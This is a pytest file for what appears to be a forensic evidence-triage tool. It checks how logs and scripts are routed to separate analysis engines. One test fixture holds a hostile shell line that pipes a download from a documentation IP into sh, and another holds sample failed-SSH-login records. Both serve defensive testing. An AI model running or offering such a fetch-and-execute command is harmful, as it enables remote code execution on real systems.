"""Evidence goes to the engine that reads it, and nothing falls between the two."""

import io
import zipfile
from pathlib import Path

import pytest

from vedette.app.acquire.opened import Selection
from vedette.app.responding.sorting import sort
from vedette.core.errors import BadInput
from vedette.core.limits import DEFAULTS

LOG = b"Nov 29 01:00:00 pc-7 sshd[311]: Failed password for root from 203.0.113.9 port 4022 ssh2\n" * 3
SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"


def folder(tmp_path: Path, **files: bytes) -> Path:
    made = tmp_path / "evidence"
    made.mkdir()
    for name, data in files.items():
        path = made / name.replace("__", "/")
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
    return made


def seen(share_exclude: tuple[str, ...], *names: str) -> list[str]:
    selection = Selection(exclude=share_exclude, defaults=False, any_kind=True)
    return [name for name in names if selection.takes(name)]


def test_logs_are_hunted_through_and_the_rest_is_judged(tmp_path: Path) -> None:
    place = folder(tmp_path, **{"auth.log": LOG, "run.sh": SCRIPT, "pc__run.sh": SCRIPT, "pc__messages": LOG})
    found = sort([str(place)], DEFAULTS)
    names = ("auth.log", "run.sh", "pc/run.sh", "pc/messages")
    assert seen(found.logs.exclude, *names) == ["auth.log", "pc/messages"]
    assert seen(found.things.exclude, *names) == ["run.sh", "pc/run.sh"]
    assert len(found.files) == 4


def test_a_name_is_left_out_only_where_it_stands(tmp_path: Path) -> None:
    place = folder(tmp_path, a=SCRIPT, pc__a=LOG)
    found = sort([str(place)], DEFAULTS)
    assert seen(found.logs.exclude, "a", "pc/a") == ["pc/a"]


def test_a_name_that_is_both_in_two_places_is_seen_by_both(tmp_path: Path) -> None:
    one, other = tmp_path / "one", tmp_path / "other"
    for place, data in ((one, LOG), (other, SCRIPT)):
        place.mkdir()
        (place / "same").write_bytes(data)
    found = sort([str(one), str(other)], DEFAULTS)
    assert found.logs.targets == (str(one),)
    assert found.things.targets == (str(other),)
    assert seen(found.logs.exclude, "same") == ["same"]
    assert seen(found.things.exclude, "same") == ["same"]


def test_an_archive_goes_to_whoever_finds_something_in_it(tmp_path: Path) -> None:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as made:
        made.writestr("auth.log", LOG)
        made.writestr("run.sh", SCRIPT)
    place = folder(tmp_path, **{"both.zip": held.getvalue()})
    found = sort([str(place)], DEFAULTS)
    assert found.logs.targets == found.things.targets == (str(place),)
    assert seen(found.logs.exclude, "both.zip") == seen(found.things.exclude, "both.zip") == ["both.zip"]


def test_so_many_names_are_left_out_by_nobody(tmp_path: Path) -> None:
    place = folder(tmp_path, **{f"s{number}.sh": SCRIPT for number in range(501)} | {"auth.log": LOG})
    assert sort([str(place)], DEFAULTS).logs.exclude == ()


def test_nothing_is_an_error_in_words(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="no file"):
        sort([str(folder(tmp_path))], DEFAULTS)
    with pytest.raises(BadInput):
        sort([str(tmp_path / "gone")], DEFAULTS)
